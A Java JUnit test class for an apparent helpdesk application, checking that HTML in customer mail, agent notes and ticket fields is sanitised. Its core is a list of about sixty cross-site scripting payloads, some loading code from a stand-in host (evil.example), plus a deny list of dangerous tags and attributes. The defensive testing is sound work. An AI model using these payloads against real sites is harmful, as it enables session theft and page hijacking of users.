package org.goodword.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.goodword.GoodwordTest;
import org.goodword.cast.Cast;
import org.goodword.cast.Company;
import org.goodword.cast.MailDesk;
import org.goodword.cast.Rest;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;

/// Markup that runs when somebody shows it: in what customers write by mail, and in every word that pages repeat.
@GoodwordTest
class ScriptsTests {
    private static final Pattern HARMLESS_ADDRESS =
            Pattern.compile("^(https?:|mailto:|tel:|cid:|#|data:image/(png|jpeg|gif|webp);)");

    @Autowired
    private Cast cast;

    private Company acme;
    private MailDesk desk;

    @BeforeEach
    void newWorkspace() {
        acme = cast.acme();
        desk = MailDesk.of(acme);
    }

    /// Of our own writing, each another way in.
    static Stream<String> markup() {
        return Stream.of(
                "<script>run()</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=run()>",
                "<img src='x' onerror\n=\nrun()>",
                "<svg/onload=run()>",
                "<svg><script>run()</script></svg>",
                "<svg><animate onbegin=run() attributeName=x>",
                "<svg><a xlink:href='javascript:run()'><text>x</text></a></svg>",
                "<svg><use href='data:image/svg+xml,<svg id=x onload=run()>#x'/></svg>",
                "<math><mi xlink:href='javascript:run()'>x</mi></math>",
                "<math><mtext><table><mglyph><style><img src=x onerror=run()>",
                "<a href=javascript:run()>x</a>",
                "<a href='JaVaScRiPt&colon;run()'>x</a>",
                "<a href='java\tscript:run()'>x</a>",
                "<a href='&#x6A;avascript:run()'>x</a>",
                "<a href='\u0001javascript:run()'>x</a>",
                "<a href='vbscript:run()'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg=='>x</a>",
                "<a href='https://x.example/' onmouseover=run()>x</a>",
                "<iframe src=javascript:run()></iframe>",
                "<iframe srcdoc='<script>run()</script>'></iframe>",
                "<object data=javascript:run()></object>",
                "<embed src=//evil.example/x.swf>",
                "<applet code=x></applet>",
                "<base href='javascript:run()//'>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<style>@import '//evil.example/x.css'; body{background:url(javascript:run())}</style>",
                "<p style='background:url(javascript:run())'>x</p>",
                "<p style='width:expression(run())'>x</p>",
                "<p style='-moz-binding:url(//evil.example/x.xml)'>x</p>",
                "<meta http-equiv=refresh content='0;url=javascript:run()'>",
                "<meta http-equiv=set-cookie content='x=1'>",
                "<form action=javascript:run()><input type=submit></form>",
                "<button formaction=javascript:run()>x</button>",
                "<input autofocus onfocus=run()>",
                "<details open ontoggle=run()>x</details>",
                "<video><source onerror=run()></video>",
                "<audio src=x onerror=run()>",
                "<body onload=run()>",
                "<marquee onstart=run()>x</marquee>",
                "<isindex action=javascript:run() type=image>",
                "<table background='javascript:run()'><tr><td>x</td></tr></table>",
                "<noscript><p title='</noscript><img src=x onerror=run()>'>",
                "<textarea><img title='</textarea><img src=x onerror=run()>'></textarea>",
                "<title><img src=x onerror=run()></title>",
                "<!--><img src=x onerror=run()>-->",
                "<!--[if gte IE 4]><script>run()</script><![endif]-->",
                "<![CDATA[<script>run()</script>]]>",
                "<xss id=x tabindex=1 onfocus=run()>x</xss>",
                "<template><script>run()</script></template>",
                "<img src='x' srcset='javascript:run() 1x'>",
                "<picture><source srcset=x onerror=run()><img></picture>",
                "<a id=location href='javascript:run()' name=cookie>x</a>",
                "<p id=getElementById name=body>x</p>",
                "<<script>run()//<</script>",
                "<img \"\"\"><script>run()</script>\">",
                "<a href=\"https://x.example/\" target=_top ping=//evil.example>x</a>",
                "\"><script>run()</script>",
                "'-run()-'",
                "{{constructor.constructor('run()')()}}",
                "${run()}",
                "#{run()}",
                "</title></textarea></style></script><script>run()</script>");
    }

    @ParameterizedTest
    @MethodSource("markup")
    @Asvs({"5.2.1", "5.2.7", "5.2.8", "5.3.3"})
    void nothingInAMailRuns(String markup) {
        var mail = desk.handIn("From: Dana <dana@customer.example>\nSubject: Lamp\nMIME-Version: 1.0\n"
                + "Content-Type: text/html; charset=utf-8\n\n<p>Hello</p>" + markup.replace("\n", "\r\n")
                + "<p>Dana</p>\n");
        var ticket = desk.ticketOf(mail);
        var message = acme.ada()
                .rest()
                .get("/tickets/" + ticket + "/messages")
                .json(200)
                .get("items")
                .get(0);
        harmless(message.get("html").asString());
    }

    @Test
    @Asvs({"5.2.1", "5.3.3"})
    void nothingThatAgentsWriteRuns() {
        var rest = acme.ada().rest();
        var ticket = acme.opened("The lamp flickers").id();
        markup().forEach(markup -> {
            var body = Map.of("kind", "note", "format", "html", "body", "<p>Hello</p>" + markup);
            var note = rest.post("/tickets/" + ticket + "/messages", body).json(201);
            harmless(note.get("html").asString());
        });
    }

    /// The bodies stay what they are, and nothing takes them for a page.
    @Test
    @Asvs({"5.3.1", "5.3.6"})
    void anAnswerOfTheInterfaceIsNeverAPage() {
        var rest = acme.ada().rest();
        markup().filter(markup -> markup.chars().noneMatch(Character::isISOControl))
                .forEach(markup -> {
                    var ticket = rest.post(
                            "/tickets",
                            Map.of(
                                    "subject",
                                    markup,
                                    "message",
                                    Map.of("kind", "note", "body", "x"),
                                    "requester",
                                    Map.of("name", markup, "email", "d@x.example")));
                    ticket.json(201);
                    assertThat(ticket.json().get("subject").asString()).isEqualTo(markup);
                    assertThat(ticket.header("Content-Type")).startsWith("application/json");
                    assertThat(ticket.header("X-Content-Type-Options")).isEqualTo("nosniff");
                    var refused = rest.get("/tickets?q=" + Rest.encoded("unknown-field:" + markup));
                    assertThat(refused.header("Content-Type")).isIn("application/problem+json", "application/json");
                });
    }

    private static void harmless(String html) {
        for (Element element : Jsoup.parseBodyFragment(html).body().getAllElements()) {
            assertThat(element.normalName())
                    .as(html)
                    .isNotIn(
                            "script",
                            "style",
                            "iframe",
                            "object",
                            "embed",
                            "applet",
                            "form",
                            "input",
                            "button",
                            "textarea",
                            "meta",
                            "link",
                            "base",
                            "svg",
                            "math",
                            "template",
                            "video",
                            "audio",
                            "noscript",
                            "title");
            for (Attribute attribute : element.attributes()) {
                var name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name)
                        .as(html)
                        .doesNotStartWith("on")
                        .isNotIn("srcdoc", "srcset", "formaction", "ping", "background");
                if (name.equals("href") || name.equals("src") || name.equals("action"))
                    assertThat(attribute.getValue().strip().toLowerCase(Locale.ROOT))
                            .as(html)
                            .matches(address -> address.isEmpty()
                                    || HARMLESS_ADDRESS.matcher(address).find());
                if (name.equals("style"))
                    assertThat(attribute.getValue().toLowerCase(Locale.ROOT))
                            .as(html)
                            .doesNotContain("url(", "expression", "binding", "position");
                if (name.equals("id") || name.equals("name"))
                    assertThat(attribute.getValue()).as(html).isNotIn("location", "cookie", "getElementById", "body");
            }
        }
    }
}
